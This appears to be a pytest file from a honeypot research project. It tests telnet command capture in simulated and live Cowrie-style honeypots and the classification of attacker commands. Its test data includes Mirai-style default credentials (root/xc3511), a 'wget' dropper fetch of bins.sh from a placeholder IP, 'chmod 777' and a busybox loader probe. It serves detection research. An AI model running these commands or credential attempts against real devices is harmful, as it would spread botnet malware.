"""Tests for post-login shell-command capture (simulated + live)."""

import asyncio

import numpy as np
import pytest

from repro.analysis.commands import classify_command, command_summary
from repro.honeypots.base import VantagePoint
from repro.honeypots.cowrie import CowrieStack
from repro.honeypots.live import LiveHoneypot, ReplayClient, TelnetService
from repro.scanners.base import PortPlan
from repro.sim.events import Credential, NetworkKind, ScanIntent
from tests.conftest import capture_row


def cowrie_vantage(stack):
    return VantagePoint(
        vantage_id="gn-aws-US-CA-0", network="aws", kind=NetworkKind.CLOUD,
        region_code="US-CA", continent="NA",
        ips=np.asarray([1000], dtype=np.uint32), stack=stack,
    )


def login_intent(commands=("uname -a",), ts=1.0, src=7):
    return ScanIntent(
        timestamp=ts, src_ip=src, dst_ip=1000, dst_port=23, protocol="telnet",
        payload=b"\xff\xfb\x1f", credentials=(Credential("root", "xc3511"),),
        commands=tuple(commands),
    )


class TestCowrieCommandCapture:
    def test_accepting_stack_records_commands(self):
        stack = CowrieStack(accept_login_probability=1.0)
        event = capture_row(cowrie_vantage(stack), login_intent(), 4134)
        assert event.commands == ("uname -a",)
        assert event.logged_in

    def test_rejecting_stack_drops_commands(self):
        stack = CowrieStack(accept_login_probability=0.0)
        event = capture_row(cowrie_vantage(stack), login_intent(), 4134)
        assert event.commands == ()
        assert event.attempted_login and not event.logged_in

    def test_acceptance_deterministic(self):
        stack = CowrieStack(accept_login_probability=0.5)
        intents = [login_intent(ts=float(i), src=100 + i) for i in range(100)]
        first = [bool(capture_row(cowrie_vantage(stack), i).commands) for i in intents]
        second = [bool(capture_row(cowrie_vantage(stack), i).commands) for i in intents]
        assert first == second
        assert 0.3 < sum(first) / len(first) < 0.7

    def test_no_commands_without_credentials(self):
        stack = CowrieStack(accept_login_probability=1.0)
        intent = ScanIntent(timestamp=1.0, src_ip=7, dst_ip=1000, dst_port=23,
                            protocol="telnet", payload=b"\xff\xfb\x1f",
                            commands=("uname -a",))
        event = capture_row(cowrie_vantage(stack), intent)
        assert event.commands == ()

    def test_validation(self):
        with pytest.raises(ValueError):
            CowrieStack(accept_login_probability=1.5)


class TestPortPlanCommands:
    def test_intent_carries_chosen_sequence(self):
        rng = np.random.default_rng(0)
        plan = PortPlan(23, "telnet", 1.0, credential_dialect="mirai",
                        credential_attempts=(2, 2),
                        shell_commands=(("enable", "shell"), ("uname -a",)))
        intents = list(plan.build_intent_batch(
            rng, np.full(20, 1.0), np.ones(20), np.full(20, 2)).intents())
        sequences = {intent.commands for intent in intents}
        assert sequences <= {("enable", "shell"), ("uname -a",)}
        assert len(sequences) == 2  # both sequences get exercised

    def test_banner_only_sessions_carry_no_commands(self):
        rng = np.random.default_rng(0)
        plan = PortPlan(23, "telnet", 1.0, credential_dialect="mirai",
                        banner_only_fraction=1.0,
                        shell_commands=(("uname -a",),))
        intent, = plan.build_intent_batch(
            rng, np.array([1.0]), np.array([1]), np.array([2])).intents()
        assert intent.commands == ()


class TestCommandClassification:
    @pytest.mark.parametrize("command,expected", [
        ("/bin/busybox MIRAI", "botnet-loader"),
        ("wget http://198.18.0.7/bins.sh", "dropper-fetch"),
        ("chmod 777 bins.sh", "execution"),
        ("uname -a", "reconnaissance"),
        ("enable", "shell-escape"),
        ("ls -la", "other"),
    ])
    def test_classes(self, command, expected):
        assert classify_command(command) == expected


class TestCommandSummary:
    def test_summary_on_simulation(self, dataset):
        summary = command_summary(dataset)
        assert summary.sessions_with_login_attempts > 0
        assert summary.sessions_logged_in > 0
        assert 0.0 < summary.login_success_rate < 1.0
        classes = summary.class_counts
        assert "botnet-loader" in classes or "dropper-fetch" in classes
        assert summary.top_commands[0][1] >= summary.top_commands[-1][1]

    def test_empty_dataset(self):
        summary = command_summary([])
        assert summary.login_success_rate == 0.0
        assert summary.total_commands == 0


class TestLiveShell:
    def test_live_telnet_shell_records_commands(self):
        async def scenario():
            pot = LiveHoneypot(services={0: TelnetService(accept_after=2)})
            async with pot:
                client = ReplayClient()
                await client.login_session(
                    pot.bound_ports[0],
                    [("root", "wrong"), ("root", "xc3511")],
                    commands=["enable", "/bin/busybox MIRAI"],
                )
                await pot.stop()
            return pot.events

        events = asyncio.run(scenario())
        assert len(events) == 1
        event = events[0]
        assert event.credentials == (("root", "wrong"), ("root", "xc3511"))
        assert event.commands == ("enable", "/bin/busybox MIRAI")

    def test_live_telnet_never_accepts_by_default(self):
        async def scenario():
            pot = LiveHoneypot(services={0: TelnetService()})
            async with pot:
                client = ReplayClient()
                await client.login_session(pot.bound_ports[0], [("a", "b"), ("c", "d")])
                await pot.stop()
            return pot.events

        events = asyncio.run(scenario())
        assert events[0].commands == ()
